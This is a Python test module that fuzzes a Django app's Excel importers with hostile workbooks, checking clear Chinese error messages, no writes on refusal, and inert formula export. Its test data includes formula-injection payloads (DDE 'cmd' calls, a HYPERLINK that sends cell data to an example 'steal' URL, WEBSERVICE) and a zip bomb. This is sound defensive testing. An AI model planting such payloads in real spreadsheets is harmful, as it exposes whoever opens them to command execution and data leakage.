"""Hostile and malformed workbooks against every importer: a clear message, never a 500, nothing written.

Each importer is described once (IMPORTERS); the same properties are then checked for all of them,
through the upload → preview → confirm views and directly against the plan builders and services.
Examples are derandomized so that CI runs the same ones every time.
"""

import datetime as dt
import html
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal

import pytest
from django.apps import apps
from django.db import models, transaction
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ERROR_CODES

from assessments import exports as assessments_exports
from assessments.exceptions import AssessmentError
from assessments.exceptions import ImportRejected as AssessmentImportRejected
from assessments.importers.hotline import build_complaint_plan
from assessments.importers.ratings import build_rating_plan
from assessments.importers.whistle import build_ticket_plan
from assessments.models import GridRating, HotlineComplaint, WhistleTicket
from assessments.services.hotline import import_complaints
from assessments.services.ratings import import_ratings
from assessments.services.whistle import frozen_ticket_years, import_tickets, street_limit
from core.models import PendingImport
from disbursements import exports as disbursements_exports
from disbursements.exceptions import DisbursementError
from disbursements.exceptions import ImportRejected as DisbursementImportRejected
from disbursements.importers import build_special_plan
from disbursements.models import BatchLine
from disbursements.services.batches import create_special_batch, import_special_lines
from grids import exports as grids_exports
from grids.exceptions import ImportRejected as RosterImportRejected
from grids.importers import build_roster_plan
from grids.models import Grid, GridStaff
from grids.services import import_roster
from tests.assessments.test_whistle import HEADERS as WHISTLE_HEADERS

# Feeds every importer hostile workbooks: run by `make test` and CI, not by the everyday `make test-quick`.
pytestmark = pytest.mark.slow


def fuzz(examples: int):
    return settings(
        max_examples=examples,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )


# --- what each importer is ---------------------------------------------------------------------


@dataclass(frozen=True, repr=False)
class Importer:
    key: str
    role: str  # the users fixture key of a role allowed to import
    url: Callable[[dict], str]  # upload URL
    sheets: Callable[[dict], list[tuple[str, list[str], list[list]]]]  # (title, headers, valid rows)
    plan: Callable[[bytes, dict], object]  # what the preview shows
    apply: Callable[[bytes, dict], object]  # what confirming does
    rejected: type[Exception]  # the file has problems (carries .plan)
    refused: tuple[type[Exception], ...]  # a rule refused a valid file (documented refusals)
    models: tuple[type[models.Model], ...]  # where a successful import writes
    keys: tuple[str, ...]  # the importer's internal column keys, which a message must never show
    export: Callable[[dict], bytes] | None  # the workbook that shows what was imported, if any

    def __repr__(self) -> str:
        return self.key

    def _repr_pretty_(self, printer, cycle) -> None:  # how hypothesis reports a failing example
        printer.text(self.key)


IMPORTERS = [
    Importer(
        key="roster",
        role="center",
        url=lambda ctx: "/grids/import/",
        sheets=lambda ctx: [
            (
                "网格",
                ["网格编码", "网格名称", "层级", "上级网格编码", "村（社区）类型", "撤销日期"],
                [
                    ["N-C1", "新村", "二级网格", ctx["roster"]["a"]["street"].code, "农村村（社区）", None],
                    ["N-G1", "第一片区", "三级网格", "N-C1", None, None],
                ],
            ),
            (
                "网格人员",
                ["网格编码", "姓名", "职务", "联系电话", "在岗"],
                [["N-G1", "王五", "三级网格指导员", "13900002222", "是"]],
            ),
        ],
        plan=lambda data, ctx: build_roster_plan(data),
        apply=lambda data, ctx: import_roster(user=ctx["users"]["center"], data=data),
        rejected=RosterImportRejected,
        refused=(),
        models=(Grid, GridStaff),
        keys=("code", "parent_code", "retired_on", "level3", "grid_code"),
        export=lambda ctx: grids_exports.roster_workbook(ctx["users"]["center"]),
    ),
    Importer(
        key="ratings",
        role="street",
        url=lambda ctx: f"/assessments/periods/{ctx['q1'].pk}/ratings/import/",
        sheets=lambda ctx: [
            (
                "网格考核",
                ["网格编码", "考核等次", "得分", "备注"],
                [
                    [ctx["roster"]["a"]["level3"].code, "优秀", 96, "示范"],
                    [ctx["roster"]["a"]["level4"][0].code, "合格", None, None],
                ],
            )
        ],
        plan=lambda data, ctx: build_rating_plan(data, user=ctx["users"]["street"], period=ctx["q1"]),
        apply=lambda data, ctx: import_ratings(user=ctx["users"]["street"], period=ctx["q1"], data=data),
        rejected=AssessmentImportRejected,
        refused=(AssessmentError,),
        models=(GridRating,),
        keys=("grid_code", "rating", "score", "remark"),
        export=lambda ctx: assessments_exports.ratings_workbook(ctx["users"]["street"], ctx["q1"]),
    ),
    Importer(
        key="complaints",
        role="center",
        url=lambda ctx: "/assessments/complaints/import/",
        sheets=lambda ctx: [
            (
                "工单",
                ["工单编号", "受理时间", "街镇", "村（社区）", "诉求类别", "诉求内容", "是否有效"],
                [
                    ["T-1", dt.datetime(2022, 2, 1, 10, 30), "a街道", "a社区", "城市管理", "噪音扰民", "是"],
                    ["T-2", "2022-03-05 08:00", "b街道", "无此社区", None, None, None],
                ],
            )
        ],
        plan=lambda data, ctx: build_complaint_plan(data),
        apply=lambda data, ctx: import_complaints(user=ctx["users"]["center"], data=data),
        rejected=AssessmentImportRejected,
        refused=(AssessmentError,),
        models=(HotlineComplaint,),
        keys=("ticket_no", "received_at", "community_code"),
        export=None,  # complaints are shown on pages only
    ),
    Importer(
        key="tickets",
        role="street",
        url=lambda ctx: "/assessments/tickets/import/",
        sheets=lambda ctx: [
            (
                "哨单",
                WHISTLE_HEADERS,
                [
                    [
                        "W-1",
                        ctx["roster"]["a"]["level4"][0].code,
                        "张三",
                        dt.datetime(2022, 2, 1, 9),
                        "环境卫生",
                        "楼道堆放杂物",
                        "区城管局",
                        "已吹哨",
                        dt.datetime(2022, 2, 1, 10),
                        None,
                        None,
                    ],
                    [
                        "W-2",
                        ctx["roster"]["a"]["level3"].code,
                        "李四",
                        "2022/2/3 08:00",
                        "道路破损",
                        None,
                        "区住建局",
                        "已办结",
                        "2022-02-03 09:00",
                        "2022年2月4日 10:00",
                        dt.datetime(2022, 2, 5, 17),
                    ],
                ],
            )
        ],
        plan=lambda data, ctx: build_ticket_plan(
            data, street_id=street_limit(ctx["users"]["street"]), frozen=frozen_ticket_years()
        ),
        apply=lambda data, ctx: import_tickets(user=ctx["users"]["street"], data=data),
        rejected=AssessmentImportRejected,
        refused=(AssessmentError,),
        models=(WhistleTicket,),
        keys=("grid_code", "collected_at", "whistled_at", "reported_at", "closed_at"),
        export=lambda ctx: assessments_exports.tickets_workbook(WhistleTicket.objects.all()),
    ),
    Importer(
        key="special_lines",
        role="center",
        url=lambda ctx: f"/funds/batches/{ctx['batch'].pk}/lines/import",
        sheets=lambda ctx: [
            (
                "明细",
                ["收款单位", "用途", "金额"],
                [
                    ["a街道", "三级网格指导员奖励资金", "2,500.50"],
                    [ctx["roster"]["b"]["street"].code, "其他", 100],
                ],
            )
        ],
        plan=lambda data, ctx: build_special_plan(data),
        apply=lambda data, ctx: import_special_lines(
            user=ctx["users"]["center"], batch=ctx["batch"], data=data
        ),
        rejected=DisbursementImportRejected,
        refused=(DisbursementError,),
        models=(BatchLine,),
        keys=("payee", "purpose", "amount"),
        export=lambda ctx: disbursements_exports.batch_workbook(ctx["users"]["center"], ctx["batch"]),
    ),
]
by_key = pytest.mark.parametrize("importer", IMPORTERS, ids=[i.key for i in IMPORTERS])


@pytest.fixture
def ctx(users, roster, q1, budget):
    batch = create_special_batch(user=users["center"], year=2022, title="年终专项")
    return {"users": users, "roster": roster, "q1": q1, "batch": batch}


# --- building workbooks ------------------------------------------------------------------------


class Literal(str):
    """Text the workbook keeps as text even when it starts with '=' (typed in Excel as '=...)."""


def make_workbook(sheets: list[tuple[str, list[list]]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets:
        ws = book.create_sheet(title)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is None:
                    continue
                cell = ws.cell(row=r, column=c, value=str(value) if isinstance(value, Literal) else value)
                if isinstance(value, Literal):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def valid_workbook(importer: Importer, ctx: dict) -> bytes:
    return make_workbook([(title, [headers, *rows]) for title, headers, rows in importer.sheets(ctx)])


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/steal?d="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "=SUM(A1:A9)",
    '=WEBSERVICE("http://example.com/")',
]
# Typed in Excel as text ('=...): kept as text by the importers, so exports must keep them as text too.
LITERALS = [
    "=2+2",
    '=HYPERLINK("http://example.com/x","领取补贴")',
    "=cmd|' /C notepad'!A0",
    "#REF!",
    "+1+1",
    "@SUM(1)",
]
DOMAIN_WORDS = [
    "优秀",
    "合格",
    "不合格",
    "是",
    "否",
    "已办结",
    "处置中",
    "四级网格",
    "二级网格",
    "城市社区",
    "a街道",
    "b社区",
    "网格员",
    "#N/A",
    "#DIV/0!",
    "-0",
    "1e309",
    "NaN",
    "Infinity",
    "2022-02-30",
    "2022年13月1日",
    "0202-01-01",
    "9999-12-31 23:59:59",
    "13900002222",
    "1,000,000,000.00",
    "￥100元",
]
# Text Excel can hold: no C0 controls (openpyxl refuses them) and no surrogates.
TEXT = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff")
    | st.sampled_from("\t\n"),
    max_size=30,
)
HUGE = st.sampled_from(["字", "a", "=", " ", "\u3000", "9"]).map(lambda c: c * 40_000)
SMALL_CELL = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(9999, 12, 31)),
    st.dates(min_value=dt.date(1900, 1, 1)),
    st.times(),
    st.timedeltas(min_value=dt.timedelta(days=-1000), max_value=dt.timedelta(days=1000)),
    TEXT,
    st.sampled_from(FORMULAS),
    st.sampled_from(LITERALS).map(Literal),
    st.sampled_from(DOMAIN_WORDS),
)
CELL = SMALL_CELL | HUGE
FREE_TEXT = {"网格名称", "备注", "诉求类别", "诉求内容", "采集人", "问题类别", "问题描述", "责任单位", "用途"}
SHEET_TITLES = st.sampled_from(["Sheet1", "数据", "导出结果", "人员 (2)", "网格", "网格人员"])
WIDE = 3_000


@st.composite
def hostile_sheet(draw, title: str, headers: list[str], valid_rows: list[list]):
    """A sheet of the importer's kind: headers kept, shuffled, renamed or dropped; valid rows with junk cells."""
    order = draw(st.permutations(range(len(headers))))
    header = [headers[i] for i in order]
    damage = draw(st.sampled_from(["none", "none", "none", "rename", "drop", "junk"]))
    if damage != "none":
        index = draw(st.integers(0, len(header) - 1))
        header[index] = {"rename": header[index] + "（新）", "drop": None, "junk": draw(CELL)}[damage]
    rows = []
    for base in draw(st.permutations(valid_rows))[: draw(st.integers(0, len(valid_rows)))]:
        row = [base[i] for i in order]
        for index in draw(st.sets(st.integers(0, len(row) - 1), max_size=2)):
            row[index] = draw(CELL)
        for index, name in enumerate(header):  # free text, where what looks like a formula would be kept
            if name in FREE_TEXT and draw(st.booleans()):
                row[index] = draw(st.sampled_from(LITERALS).map(Literal) | TEXT)
        rows.append(row)
    rows += draw(st.lists(st.lists(CELL, min_size=1, max_size=len(headers)), max_size=2))  # rows of junk
    if rows and draw(st.integers(0, 3)) == 3:
        rows[draw(st.integers(0, len(rows) - 1))].extend([draw(SMALL_CELL)] * WIDE)
    title_rows = draw(st.lists(st.lists(SMALL_CELL, max_size=3), max_size=2))
    sheet_title = title if draw(st.integers(0, 3)) < 3 else draw(SHEET_TITLES)
    return sheet_title, [*title_rows, header, *rows]


@st.composite
def hostile_workbook(draw, importer: Importer, ctx: dict) -> list[tuple[str, list[list]]]:
    """The sheets of a workbook (drawn as values, so that a failing example reads as rows)."""
    sheets = [draw(hostile_sheet(*spec)) for spec in importer.sheets(ctx)]
    if draw(st.integers(0, 5)) == 5:  # a sheet missing
        sheets.pop(draw(st.integers(0, len(sheets) - 1)))
    if not sheets or draw(st.integers(0, 5)) == 5:  # an unrelated sheet first
        sheets.insert(0, ("说明", [[draw(TEXT)], [draw(SMALL_CELL)]]))
    titles = set()
    for i, (title, rows) in enumerate(sheets):  # titles must be unique within a workbook
        while title in titles:
            title += f"{i}"
        titles.add(title)
        sheets[i] = (title, rows)
    return sheets


def zip_of(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


MEMBER_NAMES = st.sampled_from(
    [
        "[Content_Types].xml",
        "xl/workbook.xml",
        "xl/worksheets/sheet1.xml",
        "_rels/.rels",
        "readme.txt",
        "a/b/c",
    ]
) | st.text("abcxl/._[]", min_size=1, max_size=20)
NOT_A_WORKBOOK_ZIP = st.lists(
    st.tuples(MEMBER_NAMES, st.binary(max_size=200)), max_size=5, unique_by=lambda m: m[0]
).map(zip_of)
OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # what a real .xls starts with


# --- what must hold ----------------------------------------------------------------------------

CJK = re.compile(r"[\u4e00-\u9fff]")
WATCHED_APPS = ("grids", "assessments", "disbursements")


def fingerprint() -> dict:
    """Every row of the domain tables and of the upload stash: equal fingerprints mean nothing was written."""
    tables = [m for m in apps.get_models() if m._meta.app_label in WATCHED_APPS] + [PendingImport]
    return {m._meta.label: list(m.objects.order_by("pk").values_list()) for m in tables}


def assert_clear(errors, importer: Importer, ctx: dict) -> None:
    """Every problem is a non-empty Chinese sentence on a sheet; a row's problem also names its column."""
    labels = [label for _title, headers, _rows in importer.sheets(ctx) for label in headers]
    for error in errors:
        text = str(error)
        assert error.sheet and error.message.strip() and CJK.search(error.message), text
        assert error.row is None or error.row >= 1, text
        if error.row is not None:
            assert error.column or any(label in error.message for label in labels), text
        outside_quotes = re.sub(r"“.*?”", "", error.message)
        internal = [key for key in importer.keys if re.search(rf"(?<![a-z_]){key}(?![a-z_])", outside_quotes)]
        assert not internal, text
        assert "“”" not in error.message, text  # an empty value is "不能为空", not quoted


def assert_fits_columns(importer: Importer) -> None:
    """What was stored fits its columns (PostgreSQL refuses what SQLite would silently keep)."""
    for model in importer.models:
        limits = {
            f.attname: f.max_length for f in model._meta.concrete_fields if isinstance(f, models.CharField)
        }
        for row in model.objects.values(*limits):
            for name, limit in limits.items():
                assert len(row[name] or "") <= limit, (model.__name__, name, len(row[name]))


def cells_with(data: bytes, text: str) -> list:
    book = load_workbook(io.BytesIO(data))  # not read-only, so that data_type is the stored cell type
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    formulas = [f"{c.coordinate}: {c.value}" for c in cells if c.data_type == "f"]
    assert not formulas, f"the export holds live formulas: {formulas}"
    return [c for c in cells if c.value == text]


def stored_texts(importer: Importer) -> set[str]:
    texts = set()
    for model in importer.models:
        names = [
            f.attname
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField)
        ]
        texts.update(value for row in model.objects.values_list(*names) for value in row)
    return texts


def assert_formulas_stay_inert(importer: Importer, ctx: dict) -> None:
    """A formula cell is read as its value, never as its formula; text that looks like one exports as text."""
    stored = stored_texts(importer)
    assert not stored & set(FORMULAS)
    risky = {text for text in stored if text.startswith("=") or text in ERROR_CODES}
    if risky and importer.export:
        data = importer.export(ctx)
        for text in risky:
            assert all(c.data_type == "s" for c in cells_with(data, text)), text


def check_plan_then_confirm(importer: Importer, ctx: dict, data: bytes) -> None:
    with transaction.atomic():
        before = fingerprint()
        plan = importer.plan(data, ctx)
        assert_clear(plan.errors, importer, ctx)
        assert fingerprint() == before, "the preview wrote something"
        if plan.errors:
            with pytest.raises(importer.rejected) as refused:
                importer.apply(data, ctx)
            assert [str(e) for e in refused.value.plan.errors] == [str(e) for e in plan.errors]
            assert fingerprint() == before, "a refused import wrote something"
        else:
            try:
                importer.apply(data, ctx)
            except importer.refused:
                assert fingerprint() == before
            else:
                assert_fits_columns(importer)
                assert_formulas_stay_inert(importer, ctx)
        transaction.set_rollback(True)


# --- 1. the upload view refuses whatever is not a workbook --------------------------------------


def upload(client: Client, url: str, content: bytes, name: str):
    file = io.BytesIO(content)
    file.name = name
    return client.post(url, {"file": file})


def assert_upload_refused(response, before) -> None:
    assert response.status_code == 200  # the form again, not a redirect and never a 500
    problems = response.context["form"].errors.get("file", [])
    assert problems and all(CJK.search(p) for p in problems), problems
    page = html.unescape(response.content.decode())
    assert all(str(p) in page for p in problems)
    assert fingerprint() == before


@fuzz(25)
@by_key
@given(data=st.data())
def test_upload_refuses_bytes_that_are_not_a_workbook(importer, ctx, client_for, data):
    client = client_for(importer.role)
    url = importer.url(ctx)
    before = fingerprint()
    payload = data.draw(
        st.one_of(
            st.binary(max_size=3000),
            NOT_A_WORKBOOK_ZIP,
            st.binary(max_size=500).map(lambda b: OLE_HEADER + b),
            TEXT.map(lambda t: ("网格编码,名称\n" + t).encode("gbk", "replace")),
        )
    )
    name = data.draw(st.sampled_from(["导入.xlsx", "IMPORT.XLSX", "宏.xlsm"]))
    assert_upload_refused(upload(client, url, payload, name), before)


@by_key
@pytest.mark.parametrize(
    ("case", "name", "expected"),
    [
        pytest.param("empty", "空.xlsx", "空文件", id="empty"),  # Django's own message
        pytest.param("truncated", "截断.xlsx", "不是 Excel 工作簿", id="truncated"),
        pytest.param("zip", "压缩包.xlsx", "无法读取该 Excel 文件", id="zip"),
        pytest.param("csv", "导出.xlsx", "不是 Excel 工作簿", id="csv-renamed"),
        pytest.param("xls", "旧版.xlsx", "不是 Excel 工作簿", id="xls-renamed"),
        pytest.param("xls", "旧版.xls", "请上传 Excel 工作簿（.xlsx）", id="xls"),
        pytest.param("real_as_csv", "导出.csv", "请上传 Excel 工作簿（.xlsx）", id="csv-name"),
    ],
)
def test_upload_names_what_is_wrong_with_the_file(importer, ctx, client_for, case, name, expected):
    good = valid_workbook(importer, ctx)
    payload = {
        "empty": b"",
        "truncated": good[: len(good) // 2],
        "zip": zip_of([("readme.txt", "不是工作簿".encode())]),
        "csv": "网格编码,网格名称\nA1,一组\n".encode("gbk"),
        "xls": OLE_HEADER + b"\x00" * 504,
        "real_as_csv": good,
    }[case]
    before = fingerprint()
    response = upload(client_for(importer.role), importer.url(ctx), payload, name)
    assert_upload_refused(response, before)
    assert expected in " ".join(response.context["form"].errors["file"])


BROKEN_SHEET = (  # well-formed, but a number cell holding text
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="n"><v>x</v></c></row></sheetData></worksheet>'
)


@by_key
def test_a_workbook_with_an_unreadable_sheet_is_previewed_with_an_error_and_never_confirmed(
    importer, ctx, client_for
):
    good = zipfile.ZipFile(io.BytesIO(valid_workbook(importer, ctx)))
    members = [
        (info.filename, BROKEN_SHEET if "worksheets/" in info.filename else good.read(info))
        for info in good.infolist()
    ]
    client = client_for(importer.role)
    response = upload(client, importer.url(ctx), zip_of(members), "坏表.xlsx")
    assert response.status_code == 302
    page = client.get(response["Location"])
    assert page.status_code == 200
    assert "无法读取工作表内容" in page.content.decode()
    before = fingerprint()
    confirm = client.post(response["Location"])
    if importer.key == "roster":  # confirmed as a background job: its page says how it ended
        assert confirm.status_code == 302 and confirm["Location"].startswith("/jobs/")
        confirm = client.get(confirm["Location"])
    assert confirm.status_code == 200
    assert "未写入任何数据" in confirm.content.decode()
    assert fingerprint() == before


@fuzz(15)
@given(
    period=st.text(max_size=8).filter(lambda t: not (t.isascii() and t.isdigit()))  # not a primary key
    | st.sampled_from(["²", "１", "9" * 30, "-1", "1e3", "1.0"])
)
def test_the_complaint_import_ignores_a_period_parameter_that_is_no_quarter(ctx, client_for, period):
    client = client_for("center")
    page = client.get("/assessments/complaints/import/", {"period": period})
    assert page.status_code == 200 and "只导入受理时间在" not in page.content.decode()


# --- 2. generated workbooks: clear errors or a valid plan, and nothing written on refusal -------


@fuzz(60)
@by_key
@given(data=st.data())
def test_hostile_workbooks_give_clear_errors_and_write_nothing(importer, ctx, data):
    check_plan_then_confirm(importer, ctx, make_workbook(data.draw(hostile_workbook(importer, ctx))))


@fuzz(10)
@by_key
@given(data=st.data())
def test_hostile_workbooks_through_the_views_never_fail(importer, ctx, client_for, data):
    # The test client re-raises whatever a view raises, so a would-be 500 fails here with its traceback.
    client = client_for(importer.role)
    workbook = make_workbook(data.draw(hostile_workbook(importer, ctx)))
    response = upload(client, importer.url(ctx), workbook, "导入.xlsx")
    assert response.status_code == 302
    preview = client.get(response["Location"])
    assert preview.status_code == 200
    page, plan = html.unescape(preview.content.decode()), preview.context["plan"]
    if plan.errors:
        assert "未写入任何数据" in page and all(e.message in page for e in plan.errors[:20])
    else:
        assert "确认导入" in page or "没有需要导入的" in page
    with transaction.atomic():
        before = fingerprint()
        confirm = client.post(response["Location"])
        assert confirm.status_code in (200, 302)
        if confirm.status_code == 200:
            assert "未写入任何数据" in confirm.content.decode()
            assert fingerprint() == before
        transaction.set_rollback(True)


# --- 3. what fuzzing found, pinned -------------------------------------------------------------

EVIL = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://example.com/steal","点此查看")'


def test_formula_text_in_a_roster_is_kept_as_text_and_exported_as_text(users, roster):
    street = roster["a"]["street"].code
    data = make_workbook(
        [
            (
                "网格",
                [
                    ["网格编码", "网格名称", "层级", "上级网格编码", "村（社区）类型"],
                    ["9001", Literal(HYPERLINK), "二级网格", street, "城市社区"],
                ],
            )
        ]
    )
    import_roster(user=users["center"], data=data)
    assert Grid.objects.get(code="9001").name == HYPERLINK
    cells = cells_with(grids_exports.roster_workbook(users["center"]), HYPERLINK)
    assert cells and all(c.data_type == "s" for c in cells)


def test_formula_text_in_ratings_tickets_and_lines_is_exported_as_text(ctx, users, roster, q1):
    level3 = roster["a"]["level3"]
    import_ratings(
        user=users["street"],
        period=q1,
        data=make_workbook(
            [("考核", [["网格编码", "考核等次", "备注"], [level3.code, "合格", Literal(EVIL)]])]
        ),
    )
    import_tickets(
        user=users["street"],
        data=make_workbook(
            [
                (
                    "哨单",
                    [
                        ["哨单编号", "网格编码", "采集人", "采集时间", "问题类别", "问题描述", "责任单位"],
                        [
                            "W-1",
                            level3.code,
                            "张三",
                            dt.datetime(2022, 2, 1, 9),
                            "环境",
                            Literal(HYPERLINK),
                            Literal("#N/A"),
                        ],
                    ],
                )
            ]
        ),
    )
    import_special_lines(
        user=users["center"],
        batch=ctx["batch"],
        data=make_workbook([("明细", [["收款单位", "用途", "金额"], ["a街道", Literal("=1+1"), 100]])]),
    )
    assert GridRating.objects.get(grid=level3).remark == EVIL
    assert WhistleTicket.objects.get(number="W-1").department == "#N/A"
    exports = {
        EVIL: assessments_exports.ratings_workbook(users["street"], q1),
        HYPERLINK: assessments_exports.tickets_workbook(WhistleTicket.objects.all()),
        "#N/A": assessments_exports.tickets_workbook(WhistleTicket.objects.all()),
        "=1+1": disbursements_exports.batch_workbook(users["center"], ctx["batch"]),
    }
    for text, data in exports.items():
        cells = cells_with(data, text)
        assert cells and all(c.data_type == "s" for c in cells), text


def test_export_drops_characters_excel_cannot_hold(users, roster):
    Grid.objects.filter(pk=roster["a"]["level3"].pk).update(name="a\x01小区\x1f")  # typed into a form
    assert cells_with(grids_exports.roster_workbook(users["center"]), "a小区")


def test_formula_cells_are_read_as_the_value_excel_saved(users, roster, q1):
    data = make_workbook(
        [
            (
                "考核",
                [
                    ["网格编码", "考核等次", "得分"],
                    [roster["a"]["level3"].code, "合格", "=90+6"],
                    [roster["a"]["level4"][0].code, "=A1", 90],
                ],
            )
        ]
    )
    archive = zipfile.ZipFile(io.BytesIO(data))
    members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    # openpyxl saves no cached values; Excel would have saved 96 for the first formula.
    members = [(n, c.replace(b"<f>90+6</f><v></v>", b"<f>90+6</f><v>96</v>")) for n, c in members]
    plan = build_rating_plan(zip_of(members), user=users["street"], period=q1)
    assert [str(e) for e in plan.errors] == ["考核 第3行「考核等次」：考核等次不能为空。"]
    assert GridRating.objects.count() == 0
    fixed = [
        (n, c.replace(b"<f>A1</f><v></v>", b"<f>A1</f><v>\xe5\x90\x88\xe6\xa0\xbc</v>")) for n, c in members
    ]
    fixed = [(n, c.replace(b'<c r="B3"><f>', b'<c r="B3" t="str"><f>')) for n, c in fixed]
    import_ratings(user=users["street"], period=q1, data=zip_of(fixed))
    assert GridRating.objects.get(grid=roster["a"]["level3"]).score == Decimal("96.00")
    assert GridRating.objects.get(grid=roster["a"]["level4"][0]).rating == "qualified"


def test_a_zip_bomb_is_refused_before_it_is_unpacked(ctx, client_for, settings):
    settings.MAX_UPLOAD_BYTES = 200_000
    data = make_workbook(
        [("工单", [["工单编号", "受理时间"], *[["a" * 30_000, "b" * 30_000] for _ in range(80)]])]
    )
    assert len(data) < 200_000
    plan = build_complaint_plan(data)
    assert len(plan.errors) == 1 and re.match(r"文件解压后过大（\d+ MB）", plan.errors[0].message)
    before = fingerprint()
    assert_upload_refused(
        upload(client_for("center"), "/assessments/complaints/import/", data, "炸弹.xlsx"), before
    )


def test_an_empty_key_on_several_rows_is_reported_as_empty_not_as_a_duplicate(users, roster, q1):
    hotline = make_workbook(
        [("工单", [["工单编号", "受理时间"], [None, "2022-02-01"], ["\u3000", "2022-02-02"]])]
    )
    assert [str(e) for e in build_complaint_plan(hotline).errors] == [
        "工单 第2行「工单编号」：工单编号不能为空。",
        "工单 第3行「工单编号」：工单编号不能为空。",
    ]
    ratings = make_workbook([("考核", [["网格编码", "考核等次"], [None, "合格"], [" ", "优秀"]])])
    assert [str(e) for e in build_rating_plan(ratings, user=users["center"], period=q1).errors] == [
        "考核 第2行「网格编码」：网格编码不能为空。",
        "考核 第3行「网格编码」：网格编码不能为空。",
    ]


def test_a_missing_column_is_named_by_its_label(roster):
    data = make_workbook(
        [
            (
                "哨单",
                [
                    ["哨单编号", "网格编码", "采集人", "采集时间", "问题类别", "状态"],
                    ["W1", roster["a"]["level4"][0].code, "张三", dt.datetime(2022, 2, 1), "环境", "已办结"],
                ],
            )
        ]
    )
    # The sheet lacks the 办结时间 column: both the message and the column say which one to add. (The
    # absent 吹哨/报到 columns are no error: those steps take the time of the step before.)
    assert [str(e) for e in build_ticket_plan(data).errors] == [
        "哨单 第2行「办结时间」：文件中没有“办结时间”列，状态为“已办结”的哨单须填写办结时间。",
    ]


def test_a_score_of_zero_is_imported_as_zero(users, roster, q1):
    data = make_workbook(
        [("考核", [["网格编码", "考核等次", "得分"], [roster["a"]["level3"].code, "不合格", 0]])]
    )
    import_ratings(user=users["street"], period=q1, data=data)
    assert GridRating.objects.get(grid=roster["a"]["level3"]).score == Decimal("0.00")


def test_an_amount_that_is_empty_or_true_or_false_is_refused(roster, budget):
    data = make_workbook(
        [
            (
                "明细",
                [
                    ["收款单位", "用途", "金额"],
                    ["a街道", "奖励", None],
                    ["a街道", "奖励", True],
                    ["b街道", "奖励", False],
                ],
            )
        ]
    )
    assert [str(e) for e in build_special_plan(data).errors] == [
        "明细 第2行「金额」：金额不能为空。",
        "明细 第3行「金额」：金额“True”不是数字。",
        "明细 第4行「金额」：金额“False”不是数字。",
    ]


def test_cells_far_to_the_right_do_not_disturb_the_columns_read(roster, budget):
    data = make_workbook(
        [("明细", [["收款单位", "用途", "金额"], ["a街道", "奖励", 100, *[None] * 16_379, "XFD"]])]
    )
    plan = build_special_plan(data)
    assert plan.ok and [(r.payee_name, r.amount) for r in plan.creates] == [("a街道", Decimal("100.00"))]


def test_a_small_file_unpacking_a_hundredfold_is_refused_at_the_default_limit(users):
    data = make_workbook(
        [("工单", [["工单编号", "受理时间"], *[["a" * 30_000, "b" * 30_000] for _ in range(500)]])]
    )
    assert len(data) < 1_000_000  # far under the 10 MB upload limit; about 30 MB unpacked
    plan = build_complaint_plan(data)
    assert len(plan.errors) == 1 and re.match(r"文件解压后过大（\d+ MB）", plan.errors[0].message)


def test_text_in_a_formatted_column_stays_text():
    from core.xlsx_write import add_table_sheet, new_workbook, to_bytes

    workbook = new_workbook(write_only=True)
    add_table_sheet(workbook, "表", ["金额"], [["=1+1"], [Decimal("5.00")]], formats={1: "#,##0.00"})
    sheet = load_workbook(io.BytesIO(to_bytes(workbook))).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("=1+1", "s")
    assert (sheet["A3"].value, sheet["A3"].number_format) == (5, "#,##0.00")
